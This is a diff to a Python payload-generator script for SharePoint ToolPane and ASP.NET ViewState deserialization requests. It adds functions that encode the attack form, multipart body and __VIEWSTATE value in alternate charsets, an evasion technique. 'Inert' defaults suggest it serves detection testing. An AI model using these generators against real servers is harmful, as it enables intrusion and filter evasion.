@@ -104,6 +104,26 @@ def toolpane_form(kind="inert"):
     return urllib.parse.urlencode({"MSOTlPn_Uri": CONTROL, "MSOTlPn_DWP": dwp(kind)})
 
 
+def form_in(charset, kind="inert"):
+    """The form as ASP.NET reads it in a charset: signs in ASCII, names and values not."""
+    def esc(v):
+        return urllib.parse.quote_from_bytes(v.encode(charset), safe="")
+    return "&".join(esc(n) + "=" + esc(v) for n, v in (("MSOTlPn_Uri", CONTROL), ("MSOTlPn_DWP", dwp(kind))))
+
+
+def multipart_in(charset, boundary="Inert7f3a"):
+    out = b""
+    for n, v in (("MSOTlPn_Uri", CONTROL), ("MSOTlPn_DWP", dwp())):
+        out += f"--{boundary}\r\n".encode() + f'Content-Disposition: form-data; name="{n}"'.encode(charset) + b"\r\n\r\n" + v.encode(charset) + b"\r\n"
+    return out + f"--{boundary}--\r\n".encode()
+
+
+def viewstate_in(charset):
+    def esc(v):
+        return "".join(f"%{c:02x}" for c in v.encode(charset))
+    return esc("__VIEWSTATE") + "=" + esc(base64.b64encode(viewstate("root")).decode())
+
+
 # --- ObjectStateFormatter --------------------------------------------------------------------------------------------
 
 NULL, ZERO, TRUE, FALSE, EMPTY = b"\x64", b"\x66", b"\x67", b"\x68", b"\x65"
@@ -376,6 +396,7 @@ def env_windows():
 def main(a):
     out = {
         "dwp": dwp, "toolpane-form": toolpane_form, "control": lambda: CONTROL,
+        "form-in": form_in, "multipart-in": multipart_in, "viewstate-in": viewstate_in,
         "viewstate": lambda k: base64.b64encode(viewstate(k)), "viewstate-raw": viewstate,
         "viewstate-form": lambda k, g="A4E1B2C3", n="1", x="": viewstate_form(k, g, int(n), x), "keys": keys,
         "ak47-name": ak47_name, "ak47-answer": ak47_answer, "ak47-fields": ak47_fields,
